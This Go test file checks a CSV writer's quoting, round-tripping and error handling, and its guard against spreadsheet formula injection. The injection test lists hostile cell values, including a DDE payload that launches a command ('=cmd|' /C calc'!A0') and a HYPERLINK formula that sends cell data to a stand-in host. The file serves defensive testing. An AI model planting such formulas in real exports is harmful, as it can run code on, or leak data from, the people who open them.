package tabular_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"chapterhouse.dev/chapterhouse/internal/platform/tabular"
)

func TestCSVWriter(t *testing.T) {
	var b bytes.Buffer
	w := tabular.NewCSVWriter(&b, "name", "seats", "lat")
	w.Write(tabular.Text("Köln, \"Altstadt\""), tabular.Int(-3), tabular.Float(-33.925))
	w.WriteTexts("plain text", "", "a\nb")
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	want := "\ufeffname,seats,lat\r\n\"Köln, \"\"Altstadt\"\"\",-3,-33.925\r\nplain text,\"\",\"a\nb\"\r\n"
	if diff := cmp.Diff(want, b.String()); diff != "" {
		t.Error(diff)
	}
}

// formulas begin like one in some spreadsheet.
var formulas = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\tx", "=HYPERLINK(\"http://x.test?\"&A1)", "=cmd|' /C calc'!A0",
	" =1", "   +1", "\u00a0=1", "\u3000-1", "\u200b=1", "\ufeff=1", "\u202e@x", "\u0301=1",
	"＝1+1", "＋1", "－1", "＠x", "﹦1", "﹢1", "﹣1", "﹫x", "−1", " ＝1", "'=1", "''=1", "' =1",
}

func TestFormulasAreGuarded(t *testing.T) {
	for _, f := range formulas {
		var b bytes.Buffer
		w := tabular.NewCSVWriter(&b, "a")
		w.WriteTexts(f)
		w.Flush()
		_, row, _ := strings.Cut(b.String(), "\r\n")
		if !strings.HasPrefix(row, `"'`) {
			t.Errorf("%q is written as %q", f, row)
		}
	}
	for _, plain := range []string{"a=b", "mail@x.test", "'tis", "1-2", "·", "(+49)", ""} {
		var b bytes.Buffer
		w := tabular.NewCSVWriter(&b, "a")
		w.WriteTexts(plain)
		w.Flush()
		if strings.Contains(b.String(), "'"+plain) && plain != "" {
			t.Errorf("%q needs no guard: %q", plain, b.String())
		}
	}
}

// What is written is read back the same, by this package and by encoding/csv.
func TestRoundTrip(t *testing.T) {
	piece := rapid.SampledFrom(append([]string{",", ";", "\t", "|", "\"", "'", "\r\n", "\n", "\r", " ", "ä", "日本", "x", "sep=;", "="}, formulas...))
	cell := rapid.Custom(func(t *rapid.T) string { return strings.Join(rapid.SliceOfN(piece, 0, 5).Draw(t, "pieces"), "") })
	rapid.Check(t, func(t *rapid.T) {
		var b bytes.Buffer
		w := tabular.NewCSVWriter(&b, "first", "second", "last")
		rows := rapid.SliceOfN(rapid.SliceOfN(cell, 2, 2), 1, 8).Draw(t, "rows")
		for i, r := range rows {
			rows[i] = append(r, "end")
			w.WriteTexts(rows[i]...)
		}
		w.Flush()
		table, err := tabular.Read(bytes.NewReader(b.Bytes()), tabular.Options{Name: "x.csv"})
		if err != nil {
			t.Fatal(err)
		}
		var got [][]string
		for _, r := range table.Rows {
			got = append(got, r.Cells)
		}
		if diff := cmp.Diff(rows, got); diff != "" {
			t.Fatalf("%s\n%q", diff, b.String())
		}
		other, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
		if err != nil || len(other) != len(rows)+1 {
			t.Fatalf("encoding/csv: %d rows, %v", len(other), err)
		}
	})
}

type fullDisk struct{}

func (fullDisk) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriterKeepsItsFirstError(t *testing.T) {
	w := tabular.NewCSVWriter(fullDisk{}, "a")
	var err error
	for range 2000 {
		err = w.WriteTexts("some text")
	}
	if err == nil || w.Flush() != err {
		t.Errorf("got %v", err)
	}
}
